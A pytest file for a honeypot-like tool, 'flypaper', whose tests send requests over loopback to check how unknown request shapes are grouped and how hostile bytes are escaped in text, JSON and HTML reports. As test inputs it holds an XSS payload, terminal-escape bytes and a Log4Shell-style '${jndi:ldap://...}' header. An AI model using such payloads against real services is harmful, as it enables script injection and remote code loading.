"""Shapes end to end: a real serve on loopback, real clients (curl, raw
sockets from several loopback sources) talking in different shapes; the
stored shape, the JSON-lines shape, the report's top unknown shapes in
text, JSON and HTML (counts, sources, header orders, hostile bytes of the
example escaped in every format), and a schema 5 database upgraded in
place whose old rows rescan shapes."""
import json
import re
import shutil
import socket
import sqlite3
import subprocess

from conftest import FLYPAPER, make_schema_6, query, send_from, session_rows, wait_for


def report(db, fmt):
    r = subprocess.run([FLYPAPER, "report", "--db", db, "--format", fmt],
                       capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout


def curl(port, src_ip, path):
    assert shutil.which("curl"), "curl is needed (Debian package curl)"
    r = subprocess.run(["curl", "-s", "-m", "5", "--interface", src_ip, "-o", "/dev/null",
                        f"http://127.0.0.1:{port}{path}"], timeout=30)
    assert r.returncode in (0, 52, 56), r.returncode    # the strategy may send nothing


# A client no rule names that shuffles its header order (as Nikto does):
# one shape group, two orders, from two sources.
SHUFFLED = [b"GET /x/%d HTTP/1.1\r\nHost: h\r\nX-Probe: %d\r\n\r\n",
            b"GET /x/%d HTTP/1.1\r\nX-Probe: %d\r\nHost: h\r\n\r\n"]
# Hostile bytes in every part a report shows of the example.
HOSTILE = (b"GET /<script>alert(1)</script>\x1b[2J\x07 HTTP/1.1\r\n"
           b"X-<img src=x onerror=alert(2)>: \x00\xff\xc3\xa9\r\n\r\n")


def test_unknown_shapes_are_grouped_and_escaped_in_every_format(daemons, tmp_path):
    jl = tmp_path / "events.jsonl"
    d = daemons(args=["--jsonl", str(jl), "--idle-timeout", "200ms", "--on-timeout", "goaway",
                      "--goaway-text", "HTTP/1.0 404 Not Found\\r\\n\\r\\n"])
    for i in range(3):
        curl(d.port, "127.0.7.1", f"/page/{1000 + i}?id={i}")
    send_from(d.port, "127.0.7.2", SHUFFLED[0] % (11, 1))
    send_from(d.port, "127.0.7.3", SHUFFLED[1] % (222, 2))
    send_from(d.port, "127.0.7.4", HOSTILE)
    # named by a rule: not unknown; silent: no payload, no shape
    send_from(d.port, "127.0.7.5", b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")
    s = socket.create_connection(("127.0.0.1", d.port))
    s.close()
    d.wait_sessions(8, timeout=30)
    assert d.stop() == 0

    rows = session_rows(d.db)
    by_src = {}
    for r in rows:
        by_src.setdefault(r["src_ip"], []).append(r["shape"])
    assert len(set(by_src["127.0.7.1"])) == 1                # values and numbers differ only
    (a,), (b,) = by_src["127.0.7.2"], by_src["127.0.7.3"]
    assert a[:19] == b[:19] and a != b                      # same group, another order
    assert all(re.fullmatch(r"s1:[0-9a-f]{16}\.[0-9a-f]{8}", r["shape"])
               for r in rows if r["payload_sha256"])
    assert [r["shape"] for r in rows if not r["payload_sha256"]] == [None]
    events = [json.loads(line) for line in jl.read_text().splitlines()]
    closed = {e["session"]: e for e in events if e["eventid"] == "flypaper.session.closed"}
    for r in rows:
        assert closed[r["session"]]["shape"] == r["shape"]
    assert closed[rows[0]["session"]]["shape_text"].startswith("s1 http GET 1.1 crlf /page/{n}")

    j = json.loads(report(d.db, "json"))["unknown_shapes"]
    assert j["sessions"] == 6 and j["unshaped"] == 0
    top = {t["shape"]: t for t in j["top"]}
    assert len(top) == 3
    curl_group = top[by_src["127.0.7.1"][0][:19]]
    assert (curl_group["sessions"], curl_group["sources"], curl_group["orders"]) == (3, 1, 1)
    assert curl_group["text"].startswith("s1 http GET 1.1 crlf /page/{n} q:id h:Host:_,")
    assert curl_group["current"] is True
    shuffled = top[a[:19]]
    assert (shuffled["sessions"], shuffled["sources"], shuffled["orders"]) == (2, 2, 2)
    assert shuffled["example"].startswith("GET /x/222 HTTP/1.1\\x0d\\x0aX-Probe: 2")  # the latest
    hostile = top[by_src["127.0.7.4"][0][:19]]
    assert hostile["example"].startswith("GET /<script>alert(1)</script>\\x1b[2J\\x07 HTTP")
    assert "\\x00\\xff\\xc3\\xa9" in hostile["example"]
    assert j["top"][0]["shape"] == curl_group["shape"]      # most sessions first

    text = report(d.db, "text")
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f-\xff]", text)
    text = text.decode()
    section = text[text.index("top unknown shapes"):text.index("timeline")]
    assert "top unknown shapes (6 sessions with a payload and no family)" in section
    assert re.search(r"\b3 sessions\s+1 sources\s+1 orders .* %s\n" % curl_group["shape"],
                     section)
    assert re.search(r"\b2 sessions\s+2 sources\s+2 orders .* %s\n" % shuffled["shape"], section)
    assert "GET /<script>alert(1)</script>\\x1b[2J\\x07 HTTP" in section

    html = report(d.db, "html")
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f-\xff]", html)
    html = html.decode()
    table = html[html.index('<table id="unknown-shapes">'):]
    table = table[:table.index("</table>")]
    assert "<script" not in table and "<img" not in table
    assert "GET /&lt;script&gt;alert(1)&lt;/script&gt;\\x1b[2J\\x07 HTTP" in table
    counts = re.findall(r"</td><td>(\d+)</td><td>(\d+)</td><td>(\d+)</td>", table)
    assert sorted(counts) == sorted([(str(t["sessions"]), str(t["sources"]), str(t["orders"]))
                                     for t in j["top"]])
    assert "6 sessions with a payload and no family." in html


def test_a_version_5_database_is_upgraded_and_rescan_shapes_its_old_rows(daemons):
    d = daemons(workers=1)
    old = b"GET /old/123 HTTP/1.0\r\nHost: x\r\n\r\n"
    send_from(d.port, "127.0.8.1", old)
    d.wait_sessions(1)
    assert d.stop() == 0
    writer_shape = session_rows(d.db)[0]["shape"]
    assert writer_shape
    # Make it a version 5 database: no shape column, no index.
    make_schema_6(d.db)
    con = sqlite3.connect(d.db)
    con.execute("DROP INDEX sessions_shape")
    for column in ("shape", "family", "tags", "class_state"):     # schema 6's
        con.execute(f"ALTER TABLE sessions DROP COLUMN {column}")
    con.execute("ALTER TABLE runs DROP COLUMN classify_skipped")
    con.execute("UPDATE meta SET value = '5' WHERE key = 'schema_version'")
    con.commit()
    con.close()
    # The report reads it as it is: the unknown session has no shape yet.
    j = json.loads(report(d.db, "json"))["unknown_shapes"]
    assert (j["sessions"], j["unshaped"], j["top"]) == (1, 1, [])
    assert b"1 without a shape: run flypaper rescan" in report(d.db, "text")

    d = daemons(workers=1, db=d.db)
    send_from(d.port, "127.0.8.2", old.replace(b"123", b"4567"))
    wait_for(lambda: len(session_rows(d.db)) == 2, what="the new session")
    assert d.stop() == 0
    assert query(d.db, "SELECT value FROM meta WHERE key = 'schema_version'") == [("9",)]
    rows = {r["src_ip"]: r["shape"] for r in session_rows(d.db)}
    assert rows == {"127.0.8.1": None, "127.0.8.2": writer_shape}

    r = subprocess.run([FLYPAPER, "rescan", "--db", d.db], capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 0, r.stderr
    assert "2 sessions shaped" in r.stdout
    assert {r["src_ip"]: r["shape"] for r in session_rows(d.db)} == \
        {"127.0.8.1": writer_shape, "127.0.8.2": writer_shape}
    j = json.loads(report(d.db, "json"))["unknown_shapes"]
    assert (j["sessions"], j["unshaped"], len(j["top"])) == (2, 0, 1)
    assert j["top"][0]["sessions"] == 2 and j["top"][0]["sources"] == 2


def test_the_report_reads_stored_families_and_leaves_unclassified_sessions_out(daemons):
    """Where the schema stores each session's family and how far its
    classification got, the report reads them: a stored family is not
    unknown, and a payload no rule has looked at yet (pending, shed,
    skipped) is counted apart, not as an unknown shape."""
    d = daemons(workers=1, args=["--rules", "none"])
    for i, src in enumerate(("127.0.9.1", "127.0.9.2", "127.0.9.3", "127.0.9.4")):
        send_from(d.port, src, b"GET /n/%d HTTP/1.1\r\nHost: x\r\n\r\n" % (100 + i))
    d.wait_sessions(4)
    assert d.stop() == 0
    con = sqlite3.connect(d.db)
    columns = {r[1] for r in con.execute("PRAGMA table_info(sessions)")}
    for column in ("family", "class_state"):
        if column not in columns:
            con.execute(f"ALTER TABLE sessions ADD COLUMN {column} TEXT")
    con.execute("UPDATE sessions SET family = NULL, class_state = 'done'")
    con.execute("UPDATE sessions SET family = 'toolx' WHERE src_ip = '127.0.9.1'")
    con.execute("UPDATE sessions SET class_state = 'pending' WHERE src_ip = '127.0.9.2'")
    con.execute("UPDATE sessions SET class_state = 'skipped' WHERE src_ip = '127.0.9.3'")
    con.commit()
    con.close()
    r = json.loads(report(d.db, "json"))
    assert r["families"].get("toolx") == 1
    j = r["unknown_shapes"]
    assert (j["sessions"], j["unclassified"], j["unshaped"]) == (1, 2, 0)
    assert [(t["sessions"], t["sources"]) for t in j["top"]] == [(1, 1)]
    assert "; 2 more not classified yet" in report(d.db, "text").decode()
